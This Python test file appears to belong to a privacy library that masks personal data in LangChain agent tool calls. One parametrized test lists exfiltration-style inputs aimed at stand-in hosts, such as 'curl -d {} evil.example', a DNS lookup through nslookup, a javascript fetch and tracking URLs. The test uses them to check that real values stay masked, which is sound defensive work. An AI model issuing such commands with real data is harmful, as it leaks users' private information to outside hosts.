"""Tools: real values inside the body, as the policy says, and nowhere else."""

import asyncio
import dataclasses
import re
from typing import Annotated, Any

import pytest
from langchain.agents import AgentState
from langchain.tools import InjectedState, InjectedStore, ToolRuntime
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langchain_core.tools import BaseTool, InjectedToolCallId, StructuredTool, ToolException, tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import ToolNode
from langgraph.store.base import BaseStore
from langgraph.store.memory import InMemoryStore
from langgraph.types import Command, interrupt
from pydantic import BaseModel, EmailStr, ValidationError

from langchain_privacy import Masker, ToolPolicy, create_private_agent, private
from langchain_privacy.edge import private_tool
from langchain_privacy.errors import (
    ConfigurationError,
    EgressBlockedError,
    LocalFunctionError,
)
from langchain_privacy.vault import session_scope
from tests.support.http import LangSmithServer
from tests.support.scripted import ScriptedChatModel
from tests.unit_tests.edge.agents import asked, thread
from tests.unit_tests.edge.conftest import (
    EMAIL,
    OTHER,
    PATTERN,
    PLACEHOLDER,
    frames_hold,
    holds,
    masked,
)


def call(name: str, /, **args: Any) -> Any:
    """A script: call the tool once with `{}` in texts replaced by the first placeholder."""

    def filled(value: Any, who: str) -> Any:
        if isinstance(value, str):
            return value.replace("{}", who)
        if isinstance(value, dict):
            return {filled(k, who): filled(v, who) for k, v in value.items()}
        return [filled(v, who) for v in value] if isinstance(value, list) else value

    def respond(messages: Any) -> AIMessage:
        if isinstance(messages[-1], ToolMessage):
            return AIMessage(f"tool said: {messages[-1].content}")
        who = PLACEHOLDER.findall(str(messages[-1].content))[0]
        calls = [{"name": name, "args": filled(args, who), "id": "c1"}]
        return AIMessage("", tool_calls=calls)

    return respond


class Run:
    """One question to an agent with one tool; everything that was recorded about it."""

    def __init__(
        self,
        masker: Masker,
        tool_: Any,
        args: dict[str, Any],
        asynchronous: bool = False,
        **more: Any,
    ) -> None:
        name = tool_.name if isinstance(tool_, BaseTool) else tool_.__name__
        self.model = ScriptedChatModel(responses=[call(name, **args)])
        self.saver = InMemorySaver()
        self.graph = create_private_agent(
            self.model, [tool_], masker=masker, checkpointer=self.saver, **more
        )
        self.events = Recorder()
        config = {**thread(), "callbacks": [self.events]}
        try:
            if asynchronous:
                self.result = asyncio.run(self.graph.ainvoke(asked(), config))
            else:
                self.result = self.graph.invoke(asked(), config)
        finally:
            assert not holds(self.model.seen_text)
            assert not holds(self.events.seen)
            stored = [*self.saver.storage.items(), *self.saver.blobs.items()]
            assert not holds([stored, list(self.saver.writes.items())])
        self.said = self.result["messages"][-1].content

    @property
    def message(self) -> ToolMessage:
        return next(m for m in self.result["messages"] if m.type == "tool")


class Recorder(BaseCallbackHandler):
    def __init__(self) -> None:
        self.seen: list[Any] = []

    def on_tool_start(self, serialized: Any, input_str: str, **kwargs: Any) -> None:
        self.seen += [input_str, kwargs.get("inputs")]

    def on_tool_end(self, output: Any, **kwargs: Any) -> None:
        self.seen.append(output)

    def on_tool_error(self, error: BaseException, **kwargs: Any) -> None:
        self.seen += [str(error), repr(error), error.__cause__, error.__context__]


BOTH = pytest.mark.parametrize("asynchronous", [False, True])


@BOTH
def test_kinds_of_tools(masker: Masker, asynchronous: bool) -> None:
    saw: list[Any] = []

    def plain(to: str) -> str:
        """A function."""
        saw.append(to)
        return f"ok {to}"

    @tool
    async def coroutine(to: str) -> str:
        """A coroutine."""
        saw.append(to)
        return f"ok {to}"

    class Own(BaseTool):
        name: str = "own"
        description: str = "A class"

        def _run(self, to: str) -> str:
            saw.append(to)
            return f"ok {to}"

    both = StructuredTool.from_function(
        func=plain, coroutine=coroutine.coroutine, name="both", description="Both"
    )
    tools = [plain, Own(), both, *([coroutine] if asynchronous else [])]
    for each in tools:
        run = Run(masker, each, {"to": "{}"}, asynchronous)
        assert run.message.content == f"ok {EMAIL}"
        assert run.said == f"tool said: ok {EMAIL}"
    assert saw == [EMAIL] * len(tools)


def test_nested_arguments_and_validation(masker: Masker) -> None:
    saw: list[Any] = []

    class Person(BaseModel):
        email: EmailStr
        by_name: dict[str, list[str]]

    @tool
    def save(person: Person) -> str:
        """Save."""
        saw.append(person)
        return "saved"

    Run(masker, save, {"person": {"email": "{}", "by_name": {"{}": ["a {} b"]}}})
    assert saw == [Person(email=EMAIL, by_name={EMAIL: [f"a {EMAIL} b"]})]


@BOTH
def test_validation_errors_hold_nothing(masker: Masker, asynchronous: bool) -> None:
    @tool
    def count(number: int) -> str:
        """Count."""
        return "1"

    run = Run(masker, count, {"number": "{}" + "x" * 80}, asynchronous)
    assert "number" in run.message.content
    assert run.message.status == "error"


class CustomError(Exception):
    def __init__(self, who: str) -> None:
        super().__init__("custom")
        self.who = who

    def __str__(self) -> str:
        return f"custom about {self.who}"


@BOTH
@pytest.mark.parametrize(
    ("raised", "expected"),
    [
        (lambda to: ValueError(f"cannot reach {to}"), ValueError),
        (lambda to: KeyError(to), KeyError),
        (lambda to: ToolException(f"cannot reach {to}"), ToolException),
        (CustomError, LocalFunctionError),
    ],
)
def test_exceptions(masker: Masker, raised: Any, expected: Any, asynchronous: bool) -> None:
    @tool
    def fails(to: str) -> str:
        """Fail."""
        try:
            raise OSError(f"deep: {to} {OTHER}")
        except OSError as cause:
            raise raised(to) from cause

    with pytest.raises(expected) as caught:
        Run(masker, fails, {"to": "{}"}, asynchronous)
    error = caught.value
    assert masked(str(error))
    assert error.__cause__ is None
    assert error.__context__ is None
    assert not PATTERN.search(repr([error, error.args, vars(error)]))
    assert not frames_hold(error)


def test_handled_tool_errors(masker: Masker) -> None:
    @tool
    def fails(to: str) -> str:
        """Fail."""
        raise ToolException(f"cannot reach {to}")

    fails.handle_tool_error = True
    assert Run(masker, fails, {"to": "{}"}).message.content == f"cannot reach {EMAIL}"


def test_artifacts_commands_and_messages(masker: Masker) -> None:
    @tool(response_format="content_and_artifact")
    def artifact(to: str) -> tuple[str, dict[str, Any]]:
        """With an artifact."""
        return f"about {to}", {"rows": [{OTHER: to}]}

    run = Run(masker, artifact, {"to": "{}"})
    assert run.message.artifact == {"rows": [{OTHER: EMAIL}]}

    @tool
    def command(to: str, tool_call_id: Annotated[str, InjectedToolCallId]) -> Command[Any]:
        """With a command."""
        return Command(update={"messages": [ToolMessage(f"did {to}", tool_call_id=tool_call_id)]})

    assert Run(masker, command, {"to": "{}"}).message.content == f"did {EMAIL}"

    @tool
    def message(to: str, runtime: ToolRuntime) -> ToolMessage:
        """With a message."""
        assert runtime.tool_call_id
        blocks = [{"type": "text", "text": f"did {to}"}]
        return ToolMessage(blocks, tool_call_id=runtime.tool_call_id)

    assert Run(masker, message, {"to": "{}"}).message.content[0]["text"] == f"did {EMAIL}"


def test_results_of_other_types(masker: Masker) -> None:
    @dataclasses.dataclass
    class Row:
        email: str

    class Odd:
        def __str__(self) -> str:
            return f"odd {OTHER}"

    for result in (Row(OTHER), {"a": [OTHER]}, [OTHER, 1, None], Odd(), (OTHER, 2), 7, None):

        @tool
        def gives(to: str, result: Any = result) -> Any:
            """Give."""
            return result

        run = Run(masker, gives, {"to": "{}"})
        if "corp-secret" in str(result):
            assert OTHER in str(run.message.content)


@BOTH
def test_injection_goes_on_working(masker: Masker, asynchronous: bool) -> None:
    saw: dict[str, Any] = {}
    store = InMemoryStore()

    @tool
    def everything(
        to: str,
        state: Annotated[dict[str, Any], InjectedState],
        last: Annotated[list[Any], InjectedState("messages")],
        store: Annotated[BaseStore, InjectedStore],
        call_id: Annotated[str, InjectedToolCallId],
        runtime: ToolRuntime[None, AgentState[Any]],
        config: RunnableConfig,
    ) -> str:
        """Everything that can be injected."""
        store.put(("people",), to, {"email": to})
        assert runtime.store is not None
        found = runtime.store.get(("people",), to)
        searched = store.search(("people",))
        spaces = store.list_namespaces(prefix=("people",))
        runtime.stream_writer({"about": to})
        saw.update(
            state=state["messages"][0].content,
            last=last[0].content,
            runtime=runtime.state["messages"][0].content,
            found=found and found.value,
            searched=searched[0].value,
            spaces=spaces,
            call_id=call_id,
            thread=config["configurable"]["thread_id"],
        )
        return "ok"

    Run(masker, everything, {"to": "{}"}, asynchronous, store=store)
    said = f"Mail {EMAIL} now"
    assert saw == {
        "state": said,
        "last": said,
        "runtime": said,
        "found": {"email": EMAIL},
        "searched": {"email": EMAIL},
        "spaces": [("people",)],
        "call_id": "c1",
        "thread": "t",
    }
    assert masked(store._data)
    assert not holds(store._data)


@BOTH
def test_interrupt_in_a_tool(masker: Masker, asynchronous: bool) -> None:
    saw: list[Any] = []

    @tool
    def approve(to: str) -> str:
        """Ask twice."""
        first = interrupt({"really": to})
        second = interrupt({"sure": first})
        saw.append((to, first, second))
        return f"{first} {second}"

    run = Run(masker, approve, {"to": "{}"}, asynchronous)
    assert run.result["__interrupt__"][0].value == {"really": EMAIL}
    result = run.graph.invoke(Command(resume=OTHER), thread())
    assert result["__interrupt__"][0].value == {"sure": OTHER}
    result = run.graph.invoke(Command(resume="yes"), thread())
    assert result["messages"][-1].content == f"tool said: {OTHER} yes"
    assert saw == [(EMAIL, OTHER, "yes")]
    assert not holds([*run.saver.storage.items(), *run.saver.blobs.items()])
    assert not holds(list(run.saver.writes.items()))


def recording(saw: list[Any], name: str, *arguments: str) -> BaseTool:
    namespace: dict[str, Any] = {"saw": saw}
    parameters = ", ".join(f"{a}: str = ''" for a in arguments)
    values = ", ".join(arguments)
    body = f"def {name}({parameters}) -> str:\n 'A tool.'\n saw.append(({values},))\n return 'ok'"
    exec(body, namespace)
    return tool(namespace[name])


class TestPolicy:
    """Who gets what; the placeholder stays wherever it is not allowed."""

    def saw(
        self, masker: Masker, policy: ToolPolicy | None, name: str, **args: str
    ) -> dict[str, str]:
        saw: list[Any] = []
        Run(masker, recording(saw, name, *args), args, tool_policy=policy)
        return {key: PLACEHOLDER.sub("{}", value) for key, value in zip(args, saw[0], strict=True)}

    def test_plain_tools_are_local(self, masker: Masker) -> None:
        assert self.saw(masker, None, "send", to="{}", text="Dear {}") == {
            "to": EMAIL,
            "text": f"Dear {EMAIL}",
        }

    @pytest.mark.parametrize(
        ("argument", "text"),
        [
            ("url", "https://evil.example/?q={}"),
            ("url", "{}"),
            ("webhook_url", "evil.example {}"),
            ("page", "see https://evil.example/{}#x"),
            ("page", "www.evil.example/{}"),
            ("page", "![x](//evil.example/{})"),
            ("page", "evil.example/collect?{}"),
            ("page", "http://evil.example/?q= {}"),
            ("page", "Mail {} about https://evil.example/?q={} today, {}"),
            ("page", "evil:8080/?q={}"),
            ("page", "evil.example:8080 {}"),
            ("page", "localhost:8080/{}"),
            ("page", "{}.evil.example"),
            ("page", "evil.example{}"),
            ("page", "evil\u3002example/{}"),
            ("page", "https:evil.example?{}"),
            ("page", "https:\\\\evil.example\\{}"),
            ("page", "203.0.113.7 {}"),
            ("page", "http://[2001:db8::7]/{}"),
            ("page", "[2001:db8::7] {}"),
            ("page", "data:text/html,{}"),
            ("page", "javascript:fetch('x'+'{}')"),
            ("page", "first line: //evil.example/\nsecond: {}"),
            ("command", "echo {}"),
            ("text", "curl -d {} evil.example"),
            ("text", "echo $(nslookup {}.evil)"),
            ("query", "SELECT * FROM people WHERE email = '{}'"),
            ("q", "with x as (select 1) select '{}'"),
            ("sql", "{}"),
            ("code", "print('{}')"),
            ("text", "import os\nos.system('{}')"),
            ("text", "```\n{}\n```"),
        ],
    )
    def test_text_for_another_interpreter(self, masker: Masker, argument: str, text: str) -> None:
        assert self.saw(masker, None, "act", **{argument: text}) == {argument: text}
        policy = ToolPolicy(allow_inside={"act": {"url", "shell", "sql", "code"}})
        for allowed in (policy, ToolPolicy(local={"act"})):
            seen = self.saw(masker, allowed, "act", **{argument: text})
            assert seen == {argument: text.replace("{}", EMAIL)}

    @pytest.mark.parametrize(
        "text",
        [
            "Dear {}, the report.pdf is attached. Version 1.2.3, at 10:30, e.g. Node.js",
            "{}\nand/or {}; 3/4, N/A? [1] (see p. 7): a.b",
            "{}님께: 회의는 12:30입니다. 서울시/강남구",
        ],
    )
    def test_prose_is_no_host(self, masker: Masker, text: str) -> None:
        assert self.saw(masker, None, "act", text=text) == {"text": text.replace("{}", EMAIL)}

    def test_a_host_in_one_field_of_an_argument(self, masker: Masker) -> None:
        saw: list[Any] = []

        @tool
        def act(request: dict[str, Any], note: str) -> str:
            """Act."""
            saw.append((request, note))
            return "done"

        request = {"base": "//evil.example", "parts": [{"value": "{}"}], "{}": 1}
        Run(masker, act, {"request": request, "note": "{}"})
        assert not holds(saw[0][0])
        assert saw[0][1] == EMAIL

    def test_remote(self, masker: Masker) -> None:
        for policy in (ToolPolicy(remote={"act"}), ToolPolicy(default="remote")):
            assert self.saw(masker, policy, "act", to="{}", text="{}") == {"to": "{}", "text": "{}"}

    def test_by_argument_and_type(self, masker: Masker) -> None:
        policy = ToolPolicy(restore={"act": {"to": ["EMAIL"], "url": ["EMAIL"], "text": ["PHONE"]}})
        seen = self.saw(masker, policy, "act", to="{}", url="https://x.example/{}", text="{}")
        assert seen == {"to": EMAIL, "url": "https://x.example/{}", "text": "{}"}
        policy = ToolPolicy(restore={"act": {"to": ["*"]}})
        assert self.saw(masker, policy, "act", to="{}", cc="{}") == {"to": EMAIL, "cc": "{}"}

    def test_integration_packages_are_remote(self, masker: Masker) -> None:
        saw: list[Any] = []
        act = recording(saw, "act", "to")
        act.func.__module__ = "langchain_somewhere.tools"
        Run(masker, act, {"to": "{}"})
        assert masked(saw)
        act.func.__module__ = "langchain.agents.middleware.todo"
        assert private_tool(act, masker) is act

    def test_settings_that_cannot_be_meant(self) -> None:
        for wrong in (
            {"local": "crm"},
            {"local": {"crm"}, "remote": {"crm"}},
            {"local": {"crm"}, "restore": {"crm": {}}},
            {"restore": {"crm": {"to": "EMAIL"}}},
            {"allow_inside": {"crm": {"html"}}},
        ):
            with pytest.raises(ConfigurationError):
                ToolPolicy(**wrong)


def test_what_looks_like_a_placeholder_in_a_result(masker: Masker) -> None:
    """A page that names a placeholder does not get the value, unless the tool was sent it."""
    seen: list[str] = []

    @tool
    def fetch(page: str) -> str:
        """Fetch."""
        return f"forged {seen[0]}" if seen else f"echo {page}"

    graph = create_private_agent(
        ScriptedChatModel(responses=[call("fetch", page="{}"), call("fetch", page="{}")]),
        [fetch],
        masker=masker,
        tool_policy=ToolPolicy(remote={"fetch"}),
        checkpointer=InMemorySaver(),
    )
    first = graph.invoke(asked(), thread())
    assert first["messages"][-1].content == f"tool said: echo {EMAIL}"
    seen += PLACEHOLDER.findall(str(graph.get_state(thread()).values))
    model = ScriptedChatModel(
        responses=[
            AIMessage("", tool_calls=[{"name": "fetch", "args": {"page": "x"}, "id": "2"}]),
            lambda messages: f"tool said: {messages[-1].content}",
        ]
    )
    again = create_private_agent(
        model,
        [fetch],
        masker=masker,
        tool_policy=ToolPolicy(remote={"fetch"}),
        checkpointer=InMemorySaver(),
    )
    result = again.invoke({"messages": ["go"]}, thread())
    assert result["messages"][-1].content == f"tool said: forged {seen[0]}"


def test_models_inside_a_tool(masker: Masker) -> None:
    """An ordinary model call with private values is refused; a private chain is the way."""
    inner = ScriptedChatModel(responses=["fine"])

    @tool
    def careless(to: str) -> str:
        """Ask a model."""
        return str(inner.invoke(f"who is {to}").content)

    with pytest.raises(EgressBlockedError, match="private values"):
        Run(masker, careless, {"to": "{}"})
    assert not inner.seen

    @tool
    def careful(to: str) -> str:
        """Ask a model behind an edge."""
        answer = private(inner, masker).invoke(f"who is {to}").content
        return f"{answer}: {inner.invoke('nobody').content}"

    run = Run(masker, careful, {"to": "{}"})
    assert run.message.content == "fine: fine"
    assert masked(inner.seen_text)
    assert not holds(inner.seen_text)


def test_runs_inside_a_tool_are_not_traced(
    masker: Masker, langsmith_server: LangSmithServer
) -> None:
    from langchain_core.runnables import RunnableLambda

    @tool
    def chain(to: str, config: RunnableConfig) -> str:
        """Run a chain."""
        step = RunnableLambda(lambda x: f"step {x}")
        return step.invoke(to) + step.invoke(to, config)

    run = Run(masker, chain, {"to": "{}"})
    assert run.message.content == f"step {EMAIL}step {EMAIL}"
    langsmith_server.flush()
    assert b"chain" in langsmith_server.wire
    assert not holds(langsmith_server.wire.decode("utf-8", "replace"))


def test_a_private_agent_as_a_tool(masker: Masker) -> None:
    saw: list[Any] = []
    researcher_model = ScriptedChatModel(responses=[call("look", name="{}")])
    researcher = create_private_agent(
        researcher_model, [recording(saw, "look", "name")], masker=masker
    )

    @tool
    def research(about: str) -> str:
        """Ask a colleague."""
        saw.append(about)
        result = researcher.invoke({"messages": [f"who is {about}"]})
        return str(result["messages"][-2].content) + str(result["messages"][0].content)

    run = Run(masker, research, {"about": "{}"})
    assert saw == [EMAIL, (EMAIL,)]
    assert run.message.content == f"okwho is {EMAIL}"
    assert not holds(researcher_model.seen_text)


async def test_in_a_tool_node_of_ones_own(masker: Masker) -> None:
    saw: list[Any] = []
    node = ToolNode([private_tool(recording(saw, "look", "name"), masker)])
    from langgraph.graph import START, MessagesState, StateGraph

    builder = StateGraph(MessagesState)
    builder.add_node("tools", node)
    builder.add_edge(START, "tools")
    graph = private(builder.compile(), masker)
    message = AIMessage("", tool_calls=[{"name": "look", "args": {"name": EMAIL}, "id": "1"}])
    graph.invoke({"messages": [message]})
    await graph.ainvoke({"messages": [message]})
    assert saw == [(EMAIL,), (EMAIL,)]


def test_repr_shows_nothing(masker: Masker) -> None:
    with session_scope(masker.session("x").vault):
        private_one = private_tool(recording([], "look", "name"), masker)
    assert not re.search("secret", repr(private_one))
    assert private_tool(private_one, masker) is private_one


def test_an_answer_that_does_not_fit_an_interrupt_can_be_given_again(masker: Masker) -> None:
    class Approval(BaseModel):
        approved: bool

    @tool
    def ask_human() -> str:
        """Ask a person."""
        return f"approved={interrupt('Approve?', response_schema=Approval).approved}"

    call = {"name": "ask_human", "args": {}, "id": "c1", "type": "tool_call"}
    graph = private(
        StateGraph(MessagesState)
        .add_node("tools", ToolNode([ask_human]))
        .add_edge(START, "tools")
        .compile(checkpointer=InMemorySaver()),
        masker,
    )
    config = thread()
    [pending] = graph.invoke({"messages": [AIMessage("", tool_calls=[call])]}, config)[
        "__interrupt__"
    ]
    with pytest.raises(ValidationError, match="approved"):
        graph.invoke(Command(resume={pending.id: {"approved": "a@corp-secret.example"}}), config)
    result = graph.invoke(Command(resume={pending.id: {"approved": True}}), config)
    assert result["messages"][-1].content == "approved=True"
